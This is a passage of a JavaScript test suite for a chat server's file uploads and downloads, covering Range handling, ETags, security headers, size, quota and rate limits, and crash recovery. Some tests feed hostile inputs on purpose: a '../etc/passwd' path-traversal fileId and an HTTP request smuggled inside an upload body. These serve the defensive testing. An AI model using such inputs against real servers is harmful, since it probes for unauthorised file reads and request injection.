    const f = assertUploaded(await upload(main, A.token, JPEG, 'boiler.jpg', 'image/jpeg'),
                             { size: JPEG.length, mime: 'image/jpeg', name: 'boiler.jpg' }, 'upload');
    const ack = await emitAck(a, 'send_message', { recipientId: B.id, type: 'image', fileId: f.id, content: '', clientMsgId: 'img-1' });
    assert.equal(ack.ok, true, `send image: ${JSON.stringify(ack)}`);
    const expect = { type: 'image', file: f, content: '', sender: A.id, recipient: B.id, clientMsgId: 'img-1' };
    assertMessage(ack.message, expect);
    await waitFor(() => b.received.length === 1, 3000, () => `B received ${JSON.stringify(b.received)}`);
    assertMessage(b.received[0], expect);
    assert.deepEqual(b.received[0], ack.message, 'live copy differs from the ack');
    const d = await download(main, B.token, b.received[0].file.url);
    assert.equal(d.status, 200, `download from file.url: ${d.status}`);
    assert.ok(d.body.equals(JPEG), 'bytes');
    // a file message over REST, with a caption, is delivered to B's socket too
    const p = assertUploaded(await upload(main, A.token, PDF, 'lease.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'pdf');
    const r = await sendRest(main, A, { recipientId: B.id, type: 'file', fileId: p.id, content: 'the lease, signed' });
    assert.equal(r.status, 201, `file message: ${r.text.slice(0, 300)}`);
    assertMessage(r.json.message, { type: 'file', file: p, content: 'the lease, signed', sender: A.id, recipient: B.id });
    await waitFor(() => b.received.length === 2, 3000, () => `B received ${b.received.length}`);
    assert.deepEqual(b.received[1], r.json.message, 'REST file message delivered live');
    // and both carry the metadata in the history
    const h = await api(main, 'GET', `/api/chat/messages/${ack.message.conversationId}`, { token: B.token });
    assert.equal(h.status, 200);
    assert.deepEqual(h.json.messages.map((m) => m.file), [f, p], 'history file metadata');
});

test('attachments are checked: an image message with a PDF, someone else\'s or an unknown fileId, a missing fileId are refused', async () => {
    const [A, B, C] = [person(main), person(main), person(main)];
    const a = await connectUser(main, A.token);
    const b = await connectUser(main, B.token);
    const pdf = assertUploaded(await upload(main, A.token, PDF, 'lease.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'pdf');
    const txt = assertUploaded(await upload(main, A.token, makeText(100), 'notes.png'), { size: 100, mime: 'text/plain' }, 'txt');
    const cs = assertUploaded(await upload(main, C.token, PNG, 'theirs.png'), { size: PNG.length, mime: 'image/png' }, 'C');
    const refusals = [
        ['image message with a PDF', { type: 'image', fileId: pdf.id }, 400, 'BAD_REQUEST'],
        ['image message with text named .png', { type: 'image', fileId: txt.id }, 400, 'BAD_REQUEST'],
        ['someone else\'s image', { type: 'image', fileId: cs.id }, 403, 'FORBIDDEN'],
        ['someone else\'s file', { type: 'file', fileId: cs.id }, 403, 'FORBIDDEN'],
        ['unknown fileId', { type: 'file', fileId: 'ffffffffffffffffffffffff' }, [403, 404], ['FORBIDDEN', 'NOT_FOUND']],
        ['image without fileId', { type: 'image' }, 400, 'BAD_REQUEST'],
        ['malformed fileId', { type: 'file', fileId: '../etc/passwd' }, 400, 'BAD_REQUEST'],
        ['text with a fileId', { type: 'text', fileId: pdf.id, content: 'x' }, 400, 'BAD_REQUEST'],
    ];
    for (const [i, [what, body, status, code]] of refusals.entries()) {
        const msg = { recipientId: B.id, content: '', ...body, clientMsgId: `bad-${i}` };
        const ack = await emitAck(a, 'send_message', msg);
        await assertRefused(a, ack, code, `bad-${i}`, `socket: ${what}`);
        assertApiError(await sendRest(main, A, { ...msg, clientMsgId: `bad-rest-${i}` }), status, code, `REST: ${what}`);
    }
    // none of them was stored or delivered, and C's file did not become B's
    assertApiError(await download(main, B.token, cs.id), 404, 'NOT_FOUND', 'C\'s file after refused sends');
    assertApiError(await download(main, B.token, pdf.id), 404, 'NOT_FOUND', 'pdf after refused image sends');
    const ok = await emitAck(a, 'send_message', { recipientId: B.id, type: 'file', fileId: pdf.id, content: '', clientMsgId: 'good' });
    assert.equal(ok.ok, true, `file message with the PDF: ${JSON.stringify(ok)}`);
    assert.equal(ok.message.seq, 1, 'a refused send was stored');
    await waitFor(() => b.received.length >= 1, 3000, 'delivery of the good message');
    await sleep(100);
    assert.deepEqual(b.received.map((m) => m.clientMsgId), ['good'], 'B received a refused message');
});

test('Range: 206 with Content-Range for a-b, a-, -n and clamped ends; 416 with bytes */size; other units ignored', async () => {
    const A = person(main);
    const f = assertUploaded(await upload(main, A.token, PDF, 'lease.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'upload');
    const N = PDF.length; // 5000
    const full = await download(main, A.token, f.id);
    assert.equal(full.status, 200);
    assert.equal(full.headers.get('accept-ranges'), 'bytes', 'Accept-Ranges');
    const etag = full.headers.get('etag');
    const ok = [
        ['bytes=0-9', 0, 9],
        ['bytes=4990-', 4990, N - 1],
        ['bytes=-16', N - 16, N - 1],
        ['bytes=100-999999', 100, N - 1],
        ['bytes=4999-4999', N - 1, N - 1],
        ['bytes=-99999', 0, N - 1],
    ];
    for (const [h, s, e] of ok) {
        const r = await download(main, A.token, f.id, { range: h });
        assert.equal(r.status, 206, `${h}: ${r.status} ${r.text.slice(0, 100)}`);
        assert.equal(r.headers.get('content-range'), `bytes ${s}-${e}/${N}`, `${h}: Content-Range`);
        assert.equal(r.headers.get('content-length'), String(e - s + 1), `${h}: Content-Length`);
        assert.equal(r.headers.get('content-type')?.split(';')[0], 'application/pdf', `${h}: Content-Type`);
        assert.equal(r.headers.get('etag'), etag, `${h}: ETag`);
        assert.equal(r.headers.get('x-content-type-options'), 'nosniff', `${h}: nosniff`);
        assert.ok(r.body.equals(PDF.subarray(s, e + 1)), `${h}: ${r.body.length} bytes, not bytes ${s}-${e}`);
    }
    // progressive loading: three ranges put together are the file
    const parts = [];
    for (const h of ['bytes=0-1999', 'bytes=2000-3999', 'bytes=4000-']) {
        const r = await download(main, A.token, f.id, { range: h });
        assert.equal(r.status, 206, h);
        parts.push(r.body);
    }
    assert.ok(Buffer.concat(parts).equals(PDF), 'ranges put together');
    for (const h of [`bytes=${N}-`, `bytes=${N}-${N + 10}`, 'bytes=999999-1000000', 'bytes=-0']) {
        const r = await download(main, A.token, f.id, { range: h });
        assert.equal(r.status, 416, `${h}: ${r.status}`);
        assert.equal(r.headers.get('content-range'), `bytes */${N}`, `${h}: Content-Range`);
        assert.ok(!r.body.includes(Buffer.from('%PDF')), `${h}: content in a 416`);
    }
    // RFC 9110 §14.2: an unknown unit MUST be ignored; an invalid range set MAY be (or be 416);
    // several ranges are either served whole or as multipart/byteranges
    for (const [h, alt] of [['items=0-9', null], ['bytes=9-3', 416], ['bytes=abc', 416], ['bytes=0-1,5-9', 206]]) {
        const r = await download(main, A.token, f.id, { range: h });
        if (alt !== null && r.status === alt) {
            if (alt === 416) assert.equal(r.headers.get('content-range'), `bytes */${N}`, `${h}: Content-Range`);
            else assert.match(r.headers.get('content-type') || '', /^multipart\/byteranges/, `${h}: Content-Type`);
            continue;
        }
        assert.equal(r.status, 200, `${h} should be ignored: ${r.status}`);
        assert.ok(r.body.equals(PDF), `${h}: full body`);
        assert.equal(r.headers.get('content-range'), null, `${h}: Content-Range on a 200`);
    }
});

test('If-Range: a matching ETag keeps the Range (206); another ETag or a date makes it a full 200', async () => {
    const A = person(main);
    const f = assertUploaded(await upload(main, A.token, PDF, 'lease.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'upload');
    const etag = (await download(main, A.token, f.id)).headers.get('etag');
    let r = await download(main, A.token, f.id, { range: 'bytes=10-19', 'if-range': etag });
    assert.equal(r.status, 206, `If-Range with the current ETag: ${r.status}`);
    assert.ok(r.body.equals(PDF.subarray(10, 20)), 'If-Range 206 body');
    // RFC 9110 §13.1.5: when the validator does not match, the recipient MUST ignore Range
    for (const v of ['"0123456789abcdef"', 'Wed, 21 Oct 2015 07:28:00 GMT']) {
        r = await download(main, A.token, f.id, { range: 'bytes=10-19', 'if-range': v });
        assert.equal(r.status, 200, `If-Range: ${v} (not the current validator) -> ${r.status}: RFC 9110 §13.1.5 says ignore Range`);
        assert.ok(r.body.equals(PDF), `If-Range: ${v}: full body`);
    }
});

test('ETag: If-None-Match with it is 304 without a body; another tag is 200; each file has its own; HEAD', async () => {
    const A = person(main);
    const img = makePng({ seed: 9 });
    const f = assertUploaded(await upload(main, A.token, img, 'a.png'), { size: img.length, mime: 'image/png' }, 'a');
    const g = assertUploaded(await upload(main, A.token, PDF, 'b.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'b');
    const d = await download(main, A.token, f.id);
    const etag = d.headers.get('etag');
    assert.match(etag || '', /^(?:W\/)?"[\x21\x23-\x7e]+"$/, `ETag ${etag}`);
    assert.equal((await download(main, A.token, f.id)).headers.get('etag'), etag, 'ETag is stable');
    const other = (await download(main, A.token, g.id)).headers.get('etag');
    assert.ok(other && other !== etag, `two files share ETag ${etag}`);
    const opaque = etag.replace(/^W\//, '');
    const bad304 = [];
    for (const inm of [etag, `W/${opaque}`, `"nope", ${etag}`, '*']) {
        const r = await download(main, A.token, f.id, { 'if-none-match': inm });
        assert.equal(r.status, 304, `If-None-Match: ${inm} -> ${r.status}`);
        assert.equal(r.body.length, 0, `304 with a body (${inm})`);
        assert.equal(r.headers.get('etag'), etag, `304 ETag (${inm})`);
        // RFC 9110 §8.6: Content-Length on a 304 MUST be absent or the length a 200 would have
        const cl = r.headers.get('content-length');
        if (cl !== null && cl !== String(img.length)) bad304.push(`Content-Length: ${cl} on a 304 for ${img.length} bytes (If-None-Match: ${inm})`);
    }
    for (const inm of ['"nope"', other, `W/"${'0'.repeat(64)}"`]) {
        const r = await download(main, A.token, f.id, { 'if-none-match': inm });
        assert.equal(r.status, 200, `If-None-Match: ${inm} -> ${r.status}`);
        assert.ok(r.body.equals(img), `body for If-None-Match: ${inm}`);
    }
    const h = await download(main, A.token, f.id, {}, 'HEAD');
    assert.equal(h.status, 200, 'HEAD');
    assert.equal(h.body.length, 0, 'HEAD body');
    assert.equal(h.headers.get('content-length'), String(img.length), 'HEAD Content-Length');
    assert.equal(h.headers.get('etag'), etag, 'HEAD ETag');
    // RFC 9110 §8.6: Content-Length on a 304 MUST be absent or the length a 200 would have
    assert.deepEqual(bad304, [], '304 responses');
});

test('download headers: inline for images, attachment for the rest, nosniff, a restrictive CSP, never publicly cached', async () => {
    const A = person(main);
    const cases = [
        [PNG, 'boiler.png', 'image/png', 'inline'],
        [JPEG, 'sink.jpg', 'image/jpeg', 'inline'],
        [PDF, 'lease.pdf', 'application/pdf', 'attachment'],
        [makeText(64), 'notes.txt', 'text/plain', 'attachment'],
        [makeText(64), 'page.html', 'text/plain', 'attachment'],
    ];
    for (const [bytes, name, mime, disp] of cases) {
        const f = assertUploaded(await upload(main, A.token, bytes, name), { size: bytes.length, mime, name }, name);
        for (const range of [undefined, 'bytes=0-3']) {
            const d = await download(main, A.token, f.id, range ? { range } : {});
            const what = `${name}${range ? ` (${range})` : ''}`;
            assert.equal(d.status, range ? 206 : 200, what);
            const cd = d.headers.get('content-disposition') || '';
            assert.match(cd, new RegExp(`^${disp}\\s*;`), `${what}: Content-Disposition ${cd}`);
            assert.ok(cd.includes(`filename="${name}"`), `${what}: filename in ${cd}`);
            assert.equal(d.headers.get('x-content-type-options'), 'nosniff', `${what}: nosniff`);
            const csp = d.headers.get('content-security-policy') || '';
            assert.match(csp, /default-src 'none'/, `${what}: CSP ${csp}`);
            assert.ok(!/script-src|unsafe-inline/.test(csp), `${what}: CSP allows scripts: ${csp}`);
            assert.equal(d.headers.get('content-type')?.split(';')[0], mime, `${what}: Content-Type`);
            assert.doesNotMatch(d.headers.get('cache-control') || '', /public/, `${what}: Cache-Control`);
        }
    }
});

test('the default max-file-size is 10 MiB: exactly 10 MiB round-trips, one byte more is 413 with nothing kept', async () => {
    const A = person(main);
    const MiB10 = 10 * 1024 * 1024;
    const at = makePng({ seed: 3, padTo: MiB10 });
    const f = assertUploaded(await upload(main, A.token, at, 'big.png'), { size: MiB10, mime: 'image/png' }, '10 MiB');
    const d = await download(main, A.token, f.id);
    assert.equal(d.status, 200);
    assert.ok(d.body.equals(at), `10 MiB download differs (${d.body.length} bytes)`);
    const before0 = disk(main);
    const over = makePng({ seed: 4, padTo: MiB10 + 1 });
    assertApiError(await upload(main, A.token, over, 'big2.png'), 413, 'PAYLOAD_TOO_LARGE', '10 MiB + 1');
    assertNothingKept(main, before0, '10 MiB + 1');
});

test('durable: after a kill -9 right after the 201 the file, its row and its message are all there; a crash mid-upload leaves no temporary', async () => {
    const srv = await serve(['--rate-uploads-per-min', '0']);
    const [A, B] = [person(srv), person(srv)];
    const f = assertUploaded(await upload(srv, A.token, PDF, 'lease.pdf'), { size: PDF.length, mime: 'application/pdf' }, 'upload');
    const m = await sendRest(srv, A, { recipientId: B.id, type: 'file', fileId: f.id, content: '' });
    assert.equal(m.status, 201, m.text);
    // an upload in flight when the server dies
    const sock = await connectTcp(srv.port);
    recorder(sock);
    const Bd = 'crashBoundary';
    sock.write(`POST /api/chat/files HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${A.token}\r\n` +
               `Content-Type: multipart/form-data; boundary=${Bd}\r\nContent-Length: 100000\r\n\r\n` +
               `--${Bd}\r\nContent-Disposition: form-data; name="file"; filename="half.txt"\r\n\r\n${'y'.repeat(20000)}`);
    await waitFor(() => disk(srv).tmp.length === 1, 5000, 'a temporary for the upload in flight');
    await srv.crash();
    servers = servers.filter((x) => x !== srv);
    sock.destroy();
    const again = await serve(['--rate-uploads-per-min', '0'], { dataDir: srv.dataDir, secret: srv.secret });
    assert.deepEqual(disk(again).tmp, [], 'temporaries left by the crash are removed at startup');
    const d = await download(again, B.token, f.id);
    assert.equal(d.status, 200, `recipient after the crash: ${d.status} ${d.text.slice(0, 200)}`);
    assert.ok(d.body.equals(PDF), 'bytes after the crash');
    const h = await api(again, 'GET', `/api/chat/messages/${m.json.message.conversationId}`, { token: B.token });
    assert.deepEqual(h.json.messages.map((x) => x.file), [f], 'the message keeps its file');
    assertLayout(again, 'after the crash');
});

// ---------------------------------------------------------------- limits (servers of their own)

test('--max-file-size 2048: exactly 2048 bytes accepted, 2049 refused with 413 and nothing on disk', async () => {
    const srv = await serve(['--max-file-size', '2048', '--rate-uploads-per-min', '0']);
    const A = person(srv);
    const at = makePng({ seed: 11, padTo: 2048 });
    const f = assertUploaded(await upload(srv, A.token, at, 'at.png'), { size: 2048, mime: 'image/png', name: 'at.png' }, '2048');
    assert.ok((await download(srv, A.token, f.id)).body.equals(at), '2048 round trip');
    const txt = makeText(2048);
    assertUploaded(await upload(srv, A.token, txt, 'at.txt'), { size: 2048, mime: 'text/plain' }, '2048 text');
    for (const [what, bytes] of [['PNG of 2049', makePng({ seed: 12, padTo: 2049 })], ['text of 2049', makeText(2049)],
        ['PDF of 3000', makePdf({ padTo: 3000 })], ['PDF of 100000', makePdf({ padTo: 100000 })]]) {
        const before0 = disk(srv);
        const r = assertApiError(await upload(srv, A.token, bytes, 'over.png'), 413, 'PAYLOAD_TOO_LARGE', what);
        assert.equal(r.json.error.maxBytes, 2048, `${what}: the limit is said as maxBytes`);
        assertNothingKept(srv, before0, what);
    }
    // still serving, and the limit is per file: another 2048 passes
    assertUploaded(await upload(srv, A.token, makePng({ seed: 13, padTo: 2048 }), 'again.png'), { size: 2048, mime: 'image/png' }, 'after');
});

test('--max-file-size 2048: refused while streaming (or on a declared length) before the body is sent; the rest is never read as a request', async () => {
    const srv = await serve(['--max-file-size', '2048', '--rate-uploads-per-min', '0']);
    const A = person(srv);
    const before0 = disk(srv);
    const B = 'streamBoundary';
    const head = Buffer.from(`--${B}\r\nContent-Disposition: form-data; name="file"; filename="big.txt"\r\n\r\n`);
    // file content hiding a request: if the server read the leftover body as HTTP, /healthz would answer 200
    const smuggled = '\r\n\r\nGET /healthz HTTP/1.1\r\nHost: x\r\n\r\n';
    const data = Buffer.from(('x'.repeat(100) + smuggled).repeat(120)); // ~16 KiB
    const tail = Buffer.from(`\r\n--${B}--\r\n`);
    const len = head.length + data.length + tail.length;
    assert.ok(len < 2048 + 16 * 1024, 'declared length small enough that only streaming can catch it');
    const chunk = (b) => Buffer.concat([Buffer.from(`${b.length.toString(16)}\r\n`), b, Buffer.from('\r\n')]);
    const wrongClose = [];
    for (const mode of ['content-length', 'chunked', 'declared 1 MB']) {
        const sock = await connectTcp(srv.port);
        const rec = recorder(sock);
        const te = { 'content-length': `Content-Length: ${len}`, chunked: 'Transfer-Encoding: chunked',
            'declared 1 MB': 'Content-Length: 1000000' }[mode];
        sock.write(`POST /api/chat/files HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${A.token}\r\n` +
                   `Content-Type: multipart/form-data; boundary=${B}\r\n${te}\r\n\r\n`);
        // 4 KiB of file data (over the limit, far from the end of the body); nothing when the
        // declared length alone is enough to refuse
        let sent = 0;
        if (mode !== 'declared 1 MB') {
            const first = Buffer.concat([head, data.subarray(0, 4096)]);
            sock.write(mode === 'chunked' ? chunk(first) : first);
            sent = 4096;
        }
        const [r] = await readHttpResponses(rec, 1, 5000).catch((e) => {
            throw new Error(`${mode}: no answer after ${sent} bytes of a body over the limit: ${e.message}`);
        });
        assert.equal(r.status, 413, `${mode}: ${r.statusLine} ${r.body}`);
        assert.equal(JSON.parse(r.body.toString()).error.code, 'PAYLOAD_TOO_LARGE', mode);
        assert.equal(JSON.parse(r.body.toString()).error.maxBytes, 2048, mode);
        assertNothingKept(srv, before0, `${mode}: refused while streaming`);
        // send the rest of the body, then a real request on the same connection
        const rest = Buffer.concat([sent ? Buffer.alloc(0) : head, data.subarray(sent), tail]);
        if (!sock.destroyed) {
            sock.write(mode === 'chunked' ? Buffer.concat([chunk(rest), Buffer.from('0\r\n\r\n')]) : rest);
            sock.write('GET /api/chat/files/ffffffffffffffffffffffff HTTP/1.1\r\nHost: x\r\n\r\n');
        }
        await Promise.race([rec.closed, sleep(1000)]);
        const closedByServer = rec.closedAt !== null;
        const { responses } = parseHttpResponses(rec.data);
        const later = responses.slice(1).map((x) => x.status);
        assert.ok(later.length === 0 || (later.length === 1 && later[0] === 401),
                  `${mode}: after the 413, the leftover body was answered as requests: ${JSON.stringify(later)}`);
        // RFC 9112 §9.6: a server about to close says so, or a client reuses a dead connection
        if (closedByServer && later.length === 0 && r.headers.connection?.toLowerCase() !== 'close') {
            wrongClose.push(`${mode}: the 413 says "Connection: ${r.headers.connection}" and the server closes the connection`);
        }
        sock.destroy();
    }
    assertNothingKept(srv, before0, 'after the connections ended');
    srv.assertAlive();
    assert.deepEqual(wrongClose, [], 'Connection header of refusals that close');
});

test('--max-storage-per-user 3000: uploads fill the quota exactly, the next one is 413 with nothing kept, others unaffected', async () => {
    const srv = await serve(['--max-storage-per-user', '3000', '--rate-uploads-per-min', '0']);
    const [A, B] = [person(srv), person(srv)];
    for (let i = 0; i < 3; i++) {
        assertUploaded(await upload(srv, A.token, makePng({ seed: 20 + i, padTo: 1000 }), `${i}.png`), { size: 1000, mime: 'image/png' }, `upload ${i}`);
    }
    const before0 = disk(srv);
    assert.equal(before0.stored.length, 3);
    for (const n of [1000, 200]) {
        const r = await upload(srv, A.token, makeText(n), 'more.txt');
        assertApiError(r, 413, 'PAYLOAD_TOO_LARGE', `${n} bytes over a full quota`);
        assertNothingKept(srv, before0, `quota refusal of ${n}`);
    }
    // the quota is per user
    assertUploaded(await upload(srv, B.token, makeText(3000), 'b.txt'), { size: 3000, mime: 'text/plain' }, 'B fills its own quota');
    assertApiError(await upload(srv, B.token, makeText(100), 'b2.txt'), 413, 'PAYLOAD_TOO_LARGE', 'B over quota');
    // uploads racing for the last bytes of a quota: exactly as many as fit are kept
    const C = person(srv);
    const before1 = disk(srv);
    const race = await Promise.all(Array.from({ length: 5 }, (_, i) =>
        upload(srv, C.token, makePng({ seed: 40 + i, padTo: 1000 }), `race${i}.png`)));
    const statuses = race.map((r) => r.status).sort();
    assert.deepEqual(statuses, [201, 201, 201, 413, 413], `5 concurrent uploads of 1000 into 3000: ${statuses}`);
    assert.equal(disk(srv).stored.length, before1.stored.length + 3, 'files kept after the race');
    assert.deepEqual(disk(srv).tmp, [], 'temporaries after the race');
});

test('upload rate limit (default 30/min): a quick run is cut with 429 RATE_LIMITED and Retry-After, nothing kept, and recovers', async () => {
    const srv = await serve([]); // the default --rate-uploads-per-min
    const [A, B] = [person(srv), person(srv)];
    // A burst of 10 (min(10, per-minute)), then one every 2 s: of 14 quick uploads exactly 10
    // pass, plus one per 2 s the run took (none unless the machine is very slow).
    const results = [];
    const t0 = Date.now();
    for (let i = 0; i < 14; i++) results.push(await upload(srv, A.token, makePng({ seed: 200 + i }), `${i}.png`));
    const refills = Math.floor((Date.now() - t0) / 2000);
    const okN = results.filter((r) => r.status === 201).length;
    const refused = results.filter((r) => r.status !== 201);
    assert.deepEqual(results.slice(0, 10).map((r) => r.status), Array(10).fill(201), 'the burst of 10');
    assert.ok(okN >= 10 && okN <= 10 + refills,
              `${okN} of 14 uploads passed in ${Date.now() - t0} ms; burst 10, one more per 2 s: ${results.map((r) => r.status)}`);
    let wait = 0;
    for (const r of refused) {
        assertApiError(r, 429, 'RATE_LIMITED', 'upload over the rate');
        assert.ok(Number.isInteger(r.json.error.retryAfterMs) && r.json.error.retryAfterMs >= 1 && r.json.error.retryAfterMs <= 60000,
                  `retryAfterMs ${r.json.error.retryAfterMs}`);
        assert.match(r.headers.get('retry-after') || '', /^[1-9]\d*$/, 'Retry-After');
        wait = r.json.error.retryAfterMs;
    }
    const d = disk(srv);
    assert.equal(d.stored.length, okN, 'stored files = accepted uploads');
    assert.deepEqual(d.tmp, []);
    // per user: B is not limited by A
    assertUploaded(await upload(srv, B.token, PNG, 'b.png'), { size: PNG.length, mime: 'image/png' }, 'B');
    assert.ok(wait <= 2000, `retryAfterMs ${wait} is long for 30 per minute (one every 2 s)`);
    await sleep(wait + 50);
    const late = makePng({ seed: 299 });
    assertUploaded(await upload(srv, A.token, late, 'later.png'), { size: late.length, mime: 'image/png' }, 'after retryAfterMs');
});

test('upload rate limit: --rate-uploads-per-min 3 lets exactly 3 uploads through in a quick run', async () => {
    const srv = await serve(['--rate-uploads-per-min', '3']);
    const A = person(srv);
    const statuses = [];
    // A burst of 3, then one every 20 s: six uploads take far less than that.
    for (let i = 0; i < 6; i++) statuses.push((await upload(srv, A.token, makePng({ seed: 300 + i }), `${i}.png`)).status);
    assert.deepEqual(statuses, [201, 201, 201, 429, 429, 429]);
});

test('--allowed-file-types image/png,text/plain: only those types pass, by content', async () => {
    const srv = await serve(['--allowed-file-types', 'image/png, text/plain', '--rate-uploads-per-min', '0']);
    const A = person(srv);
    assertUploaded(await upload(srv, A.token, PNG, 'a.jpg', 'image/jpeg'), { size: PNG.length, mime: 'image/png' }, 'png');
    assertUploaded(await upload(srv, A.token, makeText(50), 'a.pdf', 'application/pdf'), { size: 50, mime: 'text/plain' }, 'text');
    for (const [what, bytes] of [['JPEG', JPEG], ['PDF named .png', PDF], ['script', SCRIPT]]) {
        const before0 = disk(srv);
        assertApiError(await upload(srv, A.token, bytes, 'x.png', 'image/png'), 415, 'UNSUPPORTED_MEDIA_TYPE', what);
        assertNothingKept(srv, before0, what);
    }
});
